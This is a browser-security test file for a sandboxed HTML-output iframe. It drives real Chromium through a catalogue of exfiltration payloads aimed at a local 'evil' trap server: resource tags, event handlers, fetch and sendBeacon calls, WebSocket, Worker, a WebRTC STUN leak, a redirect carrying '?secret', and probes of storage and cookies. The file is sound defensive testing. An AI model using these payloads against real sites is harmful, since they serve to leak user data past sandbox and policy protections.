// @vitest-environment node
import { createSocket } from 'node:dgram'
import { existsSync, readFileSync } from 'node:fs'
import { createServer as createHttp } from 'node:http'
import { type AddressInfo, createServer as createTcp } from 'node:net'
import { join } from 'node:path'
import { type Browser, chromium, type Page } from '@playwright/test'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

/** The page that HTML output stands in, attacked in a real browser under the policy of the application. */

const browserFile = [
  process.env.CHROMIUM_PATH,
  '/usr/bin/chromium',
  '/usr/bin/google-chrome',
  chromium.executablePath(),
].find(file => file && existsSync(file))
const framePage = readFileSync(join(import.meta.dirname, 'frame.html'))
const appPolicy =
  "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self'; frame-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'"

/** What the application does with a frame, and nothing more. */
const host = `
window.heard = []
window.show = (html, scripts) => new Promise(shown => {
  const frame = document.createElement('iframe')
  frame.sandbox = 'allow-scripts'
  frame.src = '/frame.html'
  frame.addEventListener('load', () => {
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = ({ data }) => heard.push(data)
    frame.contentWindow.postMessage({ html, scripts, theme: '' }, '*', [port2])
    shown()
  }, { once: true })
  document.body.append(frame)
})
localStorage.setItem('secret', 'of the application')
`

describe.skipIf(!browserFile)('HTML output in a real browser', () => {
  const reached: string[] = []
  const trap = createTcp(socket => {
    reached.push('connection')
    socket.on('data', data => reached.push(data.toString().split('\r\n')[0] ?? ''))
    socket.on('error', () => {})
  })
  const stun = createSocket('udp4').on('message', () => reached.push('udp'))
  const application = createHttp((request, response) => {
    const type = request.url === '/host.js' ? 'text/javascript' : 'text/html'
    response.setHeader('content-type', type)
    if (request.url === '/frame.html') return response.end(framePage)
    response.setHeader('content-security-policy', appPolicy)
    response.end(
      type === 'text/html'
        ? '<!doctype html><link rel="icon" href="data:,"><body><script src="/host.js"></script>'
        : host,
    )
  })
  let browser: Browser
  let page: Page
  let evil = ''
  let rtc = ''

  beforeAll(async () => {
    await Promise.all([
      new Promise<void>(ready => trap.listen(0, '127.0.0.1', ready)),
      new Promise<void>(ready => stun.bind(0, '127.0.0.1', ready)),
      new Promise<void>(ready => application.listen(0, '127.0.0.1', ready)),
    ])
    evil = `http://127.0.0.1:${(trap.address() as AddressInfo).port}/`
    rtc = `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun.address().port}' }] }); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))`
    browser = await chromium.launch({ executablePath: browserFile ?? '', args: ['--no-sandbox'] })
    page = await browser.newPage()
    await page.goto(`http://127.0.0.1:${(application.address() as AddressInfo).port}/`)
  })

  afterAll(async () => {
    await browser?.close()
    trap.close()
    stun.close()
    application.closeAllConnections()
    application.close()
  })

  /** Shows one page after another; the last word of a page that measures itself says that all before it had their turn. */
  async function attack(pages: string[], scripts: boolean): Promise<string[]> {
    reached.length = 0
    for (const html of pages)
      await page.evaluate(([html, scripts]) => Reflect.get(window, 'show')(html, scripts), [html, scripts] as const)
    await page.evaluate(() => Reflect.get(window, 'show')('<p style="height: 4321px">end</p>', false))
    await page.waitForFunction(() =>
      Reflect.get(window, 'heard').some((said: { height?: number }) => (said.height ?? 0) > 4000),
    )
    await page.evaluate(() => {
      Reflect.get(window, 'heard').length = 0
    })
    // What a page sets going may take the browser a moment to send; none of it ever comes.
    await page.waitForTimeout(700)
    return [...reached]
  }

  it('reaches no host with anything that a page can hold', async () => {
    const pages = [
      `<img src="${evil}1"><link rel=stylesheet href="${evil}2"><link rel=preconnect href="${evil}"><video src="${evil}3" poster="${evil}4"></video>`,
      `<iframe src="${evil}5"></iframe><object data="${evil}6"></object><embed src="${evil}7"><svg><foreignObject><iframe src="${evil}8"></iframe></foreignObject><image href="${evil}9"/></svg>`,
      `<meta http-equiv=refresh content="0;url=${evil}10"><base href="${evil}"><style>@import "${evil}11"; body { background: url(${evil}12) }</style>`,
      `<body onload="location='${evil}13'"><img src=x onerror="location='${evil}14'"><form name=body></form><img name=querySelectorAll><iframe src="${evil}15"></iframe>`,
      `<script>location = '${evil}16'</script>`,
    ]
    expect(await attack(pages, false)).toEqual([])
  })

  it('reaches no host with scripts that a person let run', async () => {
    const nested = JSON.stringify(`<script>${rtc}</script><img src=x onerror="${rtc}">`).replaceAll('</', '<\\/')
    const pages = [
      `<script>fetch('${evil}1').catch(() => 0); navigator.sendBeacon('${evil}2'); new Image().src = '${evil}3'</script>`,
      `<script>try { new WebSocket('${evil.replace('http', 'ws')}') } catch {}</script><script>import('${evil}4').catch(() => 0)</script>`,
      `<script>const s = document.createElement('script'); s.src = '${evil}5'; document.body.append(s)</script>`,
      `<script>new Worker('data:text/javascript,fetch("${evil}6")')</script><script>window.open('${evil}7'); top.location = '${evil}8'</script>`,
      `<script>${rtc}</script>`,
      `<script>const f = document.createElement('iframe'); f.srcdoc = ${nested}; document.body.append(f); new f.contentWindow.RTCPeerConnection()</script>`,
      `<script>const g = document.createElement('iframe'); g.src = 'javascript:' + ${JSON.stringify(rtc)}; document.body.append(g)</script>`,
    ]
    expect(await attack(pages, true)).toEqual([])
  })

  it('sends nothing when a script takes the page elsewhere', async () => {
    const sent = await attack([`<script>location = '${evil}?secret'</script>`], true)
    // The browser may open a connection before it asks the policy; it says nothing on it.
    expect(sent.filter(what => what !== 'connection')).toEqual([])
  })

  it('runs scripts only when told to, and they see neither the application nor its storage', async () => {
    const probes = [
      'parent.document',
      'top.location.href',
      'localStorage',
      'sessionStorage',
      'document.cookie',
      'eval("1")',
    ]
    const tries = probes.map(probe => `try { ${probe}; open.push(${JSON.stringify(probe)}) } catch {}`).join(';')
    const html = `<p id=x></p><script>const open = []; ${tries}; x.textContent = open.join(); x.style.height = open.length ? '50px' : '1234px'</script>`
    for (const [scripts, height] of [
      [false, 0],
      [true, 1234],
    ] as const) {
      await page.evaluate(() => {
        Reflect.get(window, 'heard').length = 0
      })
      await page.evaluate(([html, scripts]) => Reflect.get(window, 'show')(html, scripts), [html, scripts] as const)
      if (scripts) {
        await page.waitForFunction(
          height => Reflect.get(window, 'heard').some((said: { height?: number }) => (said.height ?? 0) >= height),
          height,
        )
      } else
        expect(
          await page.evaluate(() =>
            Reflect.get(window, 'heard').every((said: { height?: number }) => (said.height ?? 0) < 100),
          ),
        ).toBe(true)
    }
  })
})
